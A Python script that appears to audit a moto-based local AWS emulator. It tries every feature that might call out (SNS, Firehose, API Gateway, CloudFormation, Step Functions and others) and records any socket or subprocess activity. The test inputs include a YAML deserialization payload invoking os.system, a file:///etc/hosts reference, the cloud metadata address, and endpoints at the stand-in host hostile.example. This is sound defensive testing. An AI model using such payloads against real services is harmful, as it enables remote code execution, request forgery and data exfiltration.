"""Lets every service of moto that can call out do so, in a process in which whatever would leave it is watched.

Prints a JSON document: what each attempt came to, and what left.
"""

from __future__ import annotations

import io
import json
import os
import sys
import types
import zipfile
from collections.abc import Callable
from typing import Any

from kinesis_lab.cloud import open_cloud
from kinesis_lab.emulator.wire import NotOffered, Request

WATCHED = (
    "socket.connect",
    "socket.getaddrinfo",
    "socket.gethostbyname",
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.posix_spawn",
)
URL = "http://hostile.example/x"
ROLE = "arn:aws:iam::123456789012:role/r"
TRUST = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}],
}
HOSTS = ("motoapi.amazonaws.com", "MOTOAPI.amazonaws.com", "motoapi.amazonaws.com.amazonaws.com", "169.254.169.254")

left: list[str] = []


def watch(event: str, arguments: tuple[Any, ...]) -> None:
    if event in WATCHED:
        left.append(f"{event} {arguments}"[:300])


def docker() -> types.ModuleType:
    """A Docker that tells when it is asked for."""
    module = types.ModuleType("docker")
    module.from_env = lambda: left.append("docker")  # type: ignore[attr-defined]
    module.errors = types.ModuleType("docker.errors")  # type: ignore[attr-defined]
    return module


def outcome(attempt: Callable[[], Any]) -> str:
    try:
        attempt()
    except NotOffered:
        return "not offered"
    except Exception as refused:
        return f"{type(refused).__name__}: {refused}"
    return "ok"


def template(of_type: str, **properties: Any) -> str:
    return json.dumps({"Resources": {"It": {"Type": of_type, "Properties": properties}}})


def package() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("app.py", "def handler(event, context):\n    return event\n")
    return buffer.getvalue()


def attempts(cloud: Any) -> dict[str, Callable[[], Any]]:
    """Everything that would call out, by what it is."""
    client = cloud.client
    client("iam").create_role(RoleName="r", AssumeRolePolicyDocument=json.dumps(TRUST))
    lambda_ = client("lambda")
    settings = {"FunctionName": "f", "Runtime": "python3.13", "Handler": "app.handler", "Role": ROLE}
    arn = lambda_.create_function(**settings, Code={"ZipFile": package()})["FunctionArn"]
    cloud.wait(5)
    s3, sns, logs, events = client("s3"), client("sns"), client("logs"), client("events")
    firehose, stacks, apis = client("firehose"), client("cloudformation"), client("apigateway")
    s3.create_bucket(Bucket="bucket")
    bucket = {"RoleARN": ROLE, "BucketARN": "arn:aws:s3:::bucket"}
    http = {"EndpointConfiguration": {"Url": URL}}
    firehose.create_delivery_stream(DeliveryStreamName="s", S3DestinationConfiguration=bucket)
    topic = sns.create_topic(Name="t")["TopicArn"]
    api = apis.create_rest_api(name="a")["id"]
    root = apis.get_resources(restApiId=api)["items"][0]["id"]
    apis.put_method(restApiId=api, resourceId=root, httpMethod="GET", authorizationType="NONE")
    logs.create_log_group(logGroupName="g")
    logs.create_log_stream(logGroupName="g", logStreamName="s")
    secrets, states = client("secretsmanager"), client("stepfunctions")
    secrets.create_secret(Name="s", SecretString="x")
    call_web = {"ApiEndpoint": URL, "Method": "GET"}
    task = {"Type": "Task", "Resource": "arn:aws:states:::http:invoke", "Parameters": call_web, "End": True}
    definition = json.dumps({"StartAt": "A", "States": {"A": task}})
    machine = states.create_state_machine(name="m", definition=definition, roleArn=ROLE)["stateMachineArn"]
    connection = "arn:aws:events:us-east-1:123456789012:connection/c/x"

    def subscribe(protocol: str, address: str) -> Callable[[], Any]:
        return lambda: (
            sns.subscribe(TopicArn=topic, Protocol=protocol, Endpoint=address),
            sns.publish(TopicArn=topic, Message="m"),
        )

    def integrate(kind: str) -> Callable[[], Any]:
        def ask() -> None:
            place = {"restApiId": api, "resourceId": root, "httpMethod": "GET"}
            apis.put_integration(**place, type=kind, uri=URL, integrationHttpMethod="GET")
            apis.create_deployment(restApiId=api, stageName="p")
            for host in (f"x/restapis/{api}/p/_user_request_/", f"{api}.execute-api.us-east-1.amazonaws.com/p/"):
                send(f"https://{host}", "")

        return ask

    def send(url: str, service: str) -> None:
        scope = f"AWS4-HMAC-SHA256 Credential=x/20260105/us-east-1/{service}/aws4_request"
        headers = {"authorization": scope} if service else {}
        response = cloud.emulator.switchboard.call(Request("POST", url, headers, b""))
        assert response.status >= 400, response

    def reset(host: str) -> Callable[[], Any]:
        def ask() -> None:
            for service in ("", "sqs", "s3", "lambda"):
                for path in ("reset", "recorder/start-recording", "recorder/upload-recording", "seed?a=1"):
                    try:
                        send(f"http://{host}/moto-api/{path}", service)
                    except NotOffered:
                        continue

        return ask

    def described(reference: str) -> bytes:
        responses = {"200": {"$ref": reference}}
        paths = {"/x": {"get": {"responses": responses}}}
        return json.dumps({"openapi": "3.0.0", "info": {"title": "t", "version": "1"}, "paths": paths}).encode()

    return {
        "firehose http": lambda: firehose.create_delivery_stream(
            DeliveryStreamName="h", HttpEndpointDestinationConfiguration={**http, "S3Configuration": bucket}
        ),
        "firehose becomes http": lambda: firehose.update_destination(
            DeliveryStreamName="s",
            CurrentDeliveryStreamVersionId="1",
            DestinationId="destinationId-000000000001",
            HttpEndpointDestinationUpdate=http,
        ),
        "firehose to a bucket": lambda: firehose.put_record(DeliveryStreamName="s", Record={"Data": b"x"}),
        "custom resource": lambda: stacks.create_stack(
            StackName="c", TemplateBody=template("Custom::X", ServiceToken=arn)
        ),
        "custom resource by its long name": lambda: stacks.create_stack(
            StackName="d", TemplateBody=template("AWS::CloudFormation::CustomResource", ServiceToken=arn)
        ),
        "template elsewhere": lambda: stacks.create_stack(StackName="u", TemplateURL=URL),
        "template with a call": lambda: stacks.create_stack(
            StackName="y", TemplateBody="Resources: !!python/object/apply:os.system ['touch called']"
        ),
        "api destination": lambda: events.create_api_destination(
            Name="d", ConnectionArn=connection, InvocationEndpoint=URL, HttpMethod="POST"
        ),
        "api http": integrate("HTTP"),
        "api http proxy": integrate("HTTP_PROXY"),
        "api described elsewhere": lambda: apis.import_rest_api(failOnWarnings=True, body=described(URL)),
        "api described in a file": lambda: apis.import_rest_api(
            failOnWarnings=True, body=described("file:///etc/hosts")
        ),
        "topic http": subscribe("http", URL),
        "topic https": subscribe("https", "https://hostile.example"),
        "topic mail": subscribe("email", "a@hostile.example"),
        "topic text message": subscribe("sms", "+15551234567"),
        "topic function": subscribe("lambda", arn),
        "text message": lambda: sns.publish(PhoneNumber="+15551234567", Message="m"),
        "mail": lambda: (
            client("ses").verify_email_identity(EmailAddress="a@b.example"),
            client("ses").send_email(
                Source="a@b.example",
                Destination={"ToAddresses": ["x@hostile.example"]},
                Message={"Subject": {"Data": "s"}, "Body": {"Text": {"Data": "b"}}},
            ),
        ),
        "logs to a function": lambda: logs.put_subscription_filter(
            logGroupName="g", filterName="f", filterPattern="", destinationArn=arn, roleArn=ROLE
        ),
        "bucket to a function": lambda: (
            s3.put_bucket_notification_configuration(
                Bucket="bucket",
                NotificationConfiguration={
                    "LambdaFunctionConfigurations": [{"LambdaFunctionArn": arn, "Events": ["s3:ObjectCreated:*"]}]
                },
            ),
            s3.put_object(Bucket="bucket", Key="k", Body=b"x"),
        ),
        "state machine": lambda: states.start_execution(stateMachineArn=machine),
        "secret rotation": lambda: secrets.rotate_secret(
            SecretId="s", RotationLambdaARN=arn, RotationRules={"AutomaticallyAfterDays": 1}
        ),
        "batch job": lambda: client("batch").submit_job(jobName="j", jobQueue="q", jobDefinition="d"),
        "health check": lambda: client("route53").create_health_check(
            CallerReference="x",
            HealthCheckConfig={"Type": "HTTP", "FullyQualifiedDomainName": "hostile.example", "Port": 80},
        ),
        "command": lambda: client("ssm").send_command(
            DocumentName="AWS-RunShellScript", Parameters={"commands": ["touch called"]}
        ),
        "function by its old name": lambda: lambda_.invoke_async(FunctionName="f", InvokeArgs=b"{}"),
        **{f"moto's own API at {host}": reset(host) for host in HOSTS},
        "the program's own": own,
    }


def own() -> None:
    """What the program asks by itself is its own affair: this one is to be seen."""
    import requests

    requests.get("http://127.0.0.1:9/", timeout=1)


def main() -> None:
    sys.modules["docker"] = docker()
    sys.modules["docker.errors"] = sys.modules["docker"].errors
    with open_cloud("local") as cloud:
        all_of_them = attempts(cloud)
        sys.addaudithook(watch)
        outcomes, seen = {}, {}
        for name, attempt in all_of_them.items():
            before = len(left)
            outcomes[name] = outcome(attempt)
            seen[name] = left[before:]
        functions = [each["FunctionName"] for each in cloud.client("lambda").list_functions()["Functions"]]
    print(json.dumps({"outcomes": outcomes, "seen": seen, "files": os.listdir(), "functions": functions}))


if __name__ == "__main__":
    main()
